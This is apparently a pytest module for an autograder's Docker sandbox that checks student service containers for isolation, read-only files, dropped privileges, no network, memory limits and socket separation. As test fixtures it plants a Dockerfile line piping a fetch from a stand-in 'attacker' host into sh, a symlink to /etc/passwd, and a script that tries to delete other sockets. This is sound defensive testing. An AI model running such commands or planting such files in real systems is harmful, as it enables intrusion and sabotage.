"""The service track in CI's sandbox: an image built from the team's folder, run in a locked-down
container on a real Docker engine, loaded by the real load generator through its Unix socket."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import yaml

from grader import exitcodes
from grader.contracts.job import Limits
from grader.contracts.result import CheckStatus, Result
from grader.errors import SubmissionError
from grader.grading.loadgen import wait_healthy
from grader.sandbox.docker import LABEL
from grader.sandbox.service_docker import SERVICE_LABEL, DockerServiceHost, build_context
from tests.grading import grade
from tests.services import team_service


@pytest.fixture(scope="module", autouse=True)
def _engine_to_ourselves():  # noqa: ANN202
    """No other Docker test module runs while this one does (see tests.docker_host.engine_to_ourselves)."""
    from tests.docker_host import engine_to_ourselves

    yield from engine_to_ourselves()


PROBE = """
import errno, http.server, json, os, socket, socketserver, sys

found = {"uid": os.getuid(), "gid": os.getgid(), "cwd": os.getcwd(), "interfaces": sorted(os.listdir("/sys/class/net")),
         "staff_data": os.path.exists("STAFF"),
         "socket_env": os.environ.get("GRADER_SOCKET"), "env": sorted(os.environ)}
try:
    open("/service/planted", "w").write("x")
    found["write_service"] = "written"
except OSError as exc:
    found["write_service"] = errno.errorcode[exc.errno]
with open("/proc/self/status") as status:
    found["cap_eff"] = next(line.split()[1] for line in status if line.startswith("CapEff"))
probe = socket.socket()
probe.settimeout(3)
try:
    probe.connect(("127.0.0.1", PORT))
    found["network"] = "connected"
except OSError as exc:
    found["network"] = type(exc).__name__


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps(found).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def address_string(self):
        return "unix"

    def log_message(self, *args):
        pass


socketserver.UnixStreamServer(sys.argv[1], Handler).serve_forever()
"""


def http_get(sock: Path, path: str = "/health") -> bytes:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(10)
        client.connect(str(sock))
        client.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
        data = b""
        while chunk := client.recv(65536):
            data += chunk
    return data.split(b"\r\n\r\n", 1)[1]


def leftovers(client) -> tuple[list, list]:
    return (
        client.containers.list(all=True, filters={"label": LABEL}),
        client.images.list(filters={"label": SERVICE_LABEL}),
    )


def model_service(folder: Path, behaviour: str, model: Path) -> Path:
    """A team folder that ships its own model, as a team does: the service loads it by relative path."""
    team_service(folder, behaviour, Path("model.onnx"))
    shutil.copy(model, folder / "model.onnx")
    return folder


def test_the_service_container_is_locked_down_and_reachable_only_by_its_socket(
    docker_client, docker_settings, listener, tmp_path: Path
) -> None:
    port, accepted = listener
    folder = tmp_path / "probe"
    folder.mkdir()
    staff = tmp_path / "staff-data"  # e.g. held-out labels, mounted for the model workers
    staff.mkdir()
    (staff / "heldout.npz").write_bytes(b"labels")
    (folder / "probe.py").write_text(PROBE.replace("PORT", str(port)).replace("STAFF", str(staff / "heldout.npz")))
    settings = docker_settings.model_copy(update={"readonly_mounts": [*docker_settings.readonly_mounts, str(staff)]})
    host = DockerServiceHost(settings)
    work = tmp_path / "work"
    work.mkdir(mode=0o700)
    with host.start(
        ["{python}", "probe.py", "{socket}"], folder, Limits(wall_time_s=60, memory_mb=512), work, 1, "service", []
    ) as service:
        assert wait_healthy(service.socket, 30, service.alive) is not None, service.log_tail()
        found = json.loads(http_get(service.socket))
        mode = os.stat(service.socket).st_mode & 0o777
    assert found["uid"] == 65534 and found["gid"] == 65534
    assert found["cwd"] == "/service"
    assert found["write_service"] == "EROFS"  # its own files are part of the read-only image
    assert int(found["cap_eff"], 16) == 0
    assert found["interfaces"] == ["lo"] and found["network"] != "connected" and not accepted
    assert found["socket_env"] == "/grading/socket/service.sock"
    assert found["staff_data"] is False  # the workers' staff mounts never reach the team's own code
    assert not any("TOKEN" in name or name.startswith("GITHUB") for name in found["env"]), found["env"]
    assert mode == 0o777  # umask 0: the host's user, another uid in CI, may connect
    assert leftovers(docker_client) == ([], [])


def test_a_crashing_service_is_rejected_with_the_containers_last_log_lines(
    docker_settings, reference_paths, service_root: Path, tmp_path: Path
) -> None:
    folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
    (folder / "app.py").write_text("raise SystemExit('model file missing: weights.onnx')\n")
    grading = grade(folder, service_root, service_host=DockerServiceHost(docker_settings))
    assert grading.exit_code == exitcodes.REJECTED, grading.internal_error
    problem = grading.result.problems[0]
    assert "exited" in problem.message
    assert "weights.onnx" in problem.hint


def test_a_symlink_in_the_service_folder_is_rejected_before_any_build(
    docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path
) -> None:
    folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
    (folder / "model.onnx").unlink()
    (folder / "model.onnx").symlink_to("/etc/passwd")
    grading = grade(folder, service_root, service_host=DockerServiceHost(docker_settings))
    assert grading.exit_code == exitcodes.REJECTED
    assert "model.onnx is a symbolic link" in grading.result.problems[0].message
    assert leftovers(docker_client) == ([], [])


def test_build_context_holds_the_graders_dockerfile_and_root_owned_plain_files(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    (folder / "pkg").mkdir(parents=True)
    (folder / "app.py").write_text("print('hi')\n")
    (folder / "pkg" / "run.sh").write_text("#!/bin/sh\n")
    (folder / "pkg" / "run.sh").chmod(0o700)
    (folder / "Dockerfile").write_text("FROM evil\nRUN curl attacker | sh\n")  # just a file; never the build's
    extra = tmp_path / "digits_cnn.onnx"
    extra.write_bytes(b"onnx")
    with build_context(folder, [extra], "grader@sha256:" + "a" * 64) as context, tarfile.open(fileobj=context) as tar:
        members = {m.name: m for m in tar.getmembers()}
        dockerfile = tar.extractfile("Dockerfile").read().decode()
    assert dockerfile == f"FROM grader@sha256:{'a' * 64}\nCOPY service/ /service/\nWORKDIR /service\n"
    assert "RUN" not in dockerfile
    assert set(members) == {
        "Dockerfile",
        "service",
        "service/app.py",
        "service/pkg",
        "service/pkg/run.sh",
        "service/Dockerfile",
        "service/digits_cnn.onnx",
    }
    assert all(m.uid == 0 and m.gid == 0 for m in members.values())
    assert members["service/app.py"].mode == 0o644 and members["service/pkg/run.sh"].mode == 0o755
    assert members["service/pkg"].mode == 0o755


def test_build_context_refuses_special_files_and_oversized_folders(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    folder.mkdir()
    (folder / "weights.bin").write_bytes(b"x" * 2048)
    with pytest.raises(SubmissionError, match="larger than"):
        build_context(folder, [], "grader:test", max_bytes=1024)
    os.mkfifo(folder / "pipe")
    with pytest.raises(SubmissionError, match="pipe is not a regular file"):
        build_context(folder, [], "grader:test")


def test_grader_check_with_the_docker_runner_builds_and_load_tests_both_services(
    docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path
) -> None:
    """The CI path end to end: course.yaml names the Docker runner, the CLI picks the service host."""
    folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
    course = tmp_path / "course.yaml"
    course.write_text(
        yaml.safe_dump(
            {
                "schema": 1,
                "runner": {
                    "kind": "docker",
                    "docker": {
                        "image": docker_settings.image,
                        "readonly_mounts": docker_settings.readonly_mounts,
                        "service_mounts": docker_settings.service_mounts,
                        "pull": False,
                        "gpus": "none",
                    },
                },
            }
        )
    )
    out = tmp_path / "out"
    env = {k: v for k, v in os.environ.items() if k != "GRADER_COURSE"}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader.cli",
            "check",
            str(folder),
            "--assignments",
            str(service_root),
            "--course",
            str(course),
            "--out",
            str(out),
            "--quiet",
        ],
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )
    assert done.returncode == exitcodes.GRADED, done.stderr[-3000:]
    result = Result.model_validate_json((out / "result.json").read_text())
    for check_id in ("healthy", "correct", "reliable"):
        check = next(c for c in result.checks if c.id == check_id)
        assert check.status is CheckStatus.PASS, check.message
    assert result.metrics["service.agreement"].value == 1.0
    assert result.metrics["reference_service.agreement"].value == 1.0  # its model came into its image
    assert result.metrics["reference_service.throughput_c4"].value > 0
    assert result.environment.sandbox.startswith("service container built from the submission folder on docker")
    assert "CPU only" in result.environment.sandbox
    assert leftovers(docker_client) == ([], [])


def test_a_service_over_its_memory_limit_is_stopped_and_named_so(
    docker_client, docker_settings, tmp_path: Path
) -> None:
    folder = tmp_path / "hungry"
    folder.mkdir()
    (folder / "hog.py").write_text("import time\nheap = bytearray(768 * 1024 * 1024)\ntime.sleep(120)\n")
    work = tmp_path / "work"
    work.mkdir(mode=0o700)
    with DockerServiceHost(docker_settings).start(
        ["{python}", "hog.py"], folder, Limits(wall_time_s=60, memory_mb=256), work, 1, "service", []
    ) as service:
        assert wait_healthy(service.socket, 30, service.alive) is None
        assert not service.alive()
        assert service.stopped is not None and service.stopped.kind == "memory_limit", service.stopped
        assert service.stopped.message.startswith("the service used more than the 256 MiB")
    assert leftovers(docker_client) == ([], [])


def test_a_team_service_container_cannot_reach_the_reference_services_socket(docker_settings, tmp_path: Path) -> None:
    """Each service has its own socket folder, mounted into its own container only (issue #12)."""
    reference, team = tmp_path / "reference", tmp_path / "team"
    for folder in (reference, team):
        folder.mkdir()
    (reference / "serve.py").write_text(
        "import socket, sys, time\nsocket.socket(socket.AF_UNIX).bind(sys.argv[1])\ntime.sleep(60)\n"
    )
    (team / "attack.py").write_text(
        "import glob, os, sys, time\n"
        "mine = sys.argv[1]\n"
        "seen = [p for p in glob.glob('/grading/**', recursive=True) if p != mine]\n"
        "removed = []\n"
        "for path in seen:\n"
        "    try:\n"
        "        os.unlink(path); removed.append(path)\n"
        "    except OSError:\n"
        "        pass\n"
        "open(mine + '.result', 'w').write(repr(removed))\n"
        "time.sleep(60)\n"
    )
    host = DockerServiceHost(docker_settings)
    work = tmp_path / "work"
    work.mkdir(mode=0o700)
    limits = Limits(wall_time_s=90, memory_mb=512)
    with host.start(["{python}", "serve.py", "{socket}"], reference, limits, work, 1, "reference_service", []) as ref:
        _wait_for(ref.socket)
        with host.start(["{python}", "attack.py", "{socket}"], team, limits, work, 1, "service", []) as attacker:
            result = Path(str(attacker.socket) + ".result")
            _wait_for(result, 60)
            assert result.read_text() == "[]"
        assert ref.socket.exists(), "the team's service removed the reference's socket"


def _wait_for(path: Path, seconds: float = 60) -> None:
    import time

    deadline = time.monotonic() + seconds
    while not path.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert path.exists(), f"{path} never appeared"
